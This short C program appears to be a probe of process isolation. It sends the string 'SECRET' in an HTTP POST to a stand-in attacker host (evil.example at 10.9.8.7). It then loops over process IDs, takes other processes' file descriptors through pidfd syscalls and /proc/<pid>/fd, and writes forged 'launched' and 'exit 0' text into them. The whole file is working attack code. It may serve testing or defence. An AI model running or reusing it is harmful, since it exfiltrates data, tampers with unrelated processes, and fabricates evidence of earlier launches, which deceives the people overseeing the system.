/* Sends something, then looks for a descriptor of any other process on which to say that it was an earlier launch. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

static void post(const char *path) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(80)};
  inet_pton(AF_INET, "10.9.8.7", &to.sin_addr);
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(s, (void *)&to, sizeof to)) { perror("connect"); exit(1); }
  char text[300], answer[4096];
  int n = sprintf(text, "POST %s HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 6\r\nConnection: close\r\n\r\nSECRET", path);
  if (write(s, text, n) != n) exit(1);
  while (read(s, answer, sizeof answer) > 0) {}
  close(s);
}

int main(void) {
  post("/first");
  int wrote = 0;
  for (int pid = 1; pid < 200; pid++) {
    if (pid == getpid()) continue;
    int handle = syscall(434, pid, 0);
    for (int fd = 0; fd < 20; fd++) {
      char name[64];
      int copy = handle < 0 ? -1 : (int)syscall(438, handle, fd, 0);
      if (copy >= 0) wrote += write(copy, "launched\nexit 0\n", 16) > 0;
      sprintf(name, "/proc/%d/fd/%d", pid, fd);
      copy = open(name, O_WRONLY);
      if (copy >= 0) wrote += write(copy, "launched\nexit 0\n", 16) > 0;
    }
    if (handle >= 0) close(handle);
  }
  printf("wrote to %d descriptors of others\n", wrote);
  return 0;
}
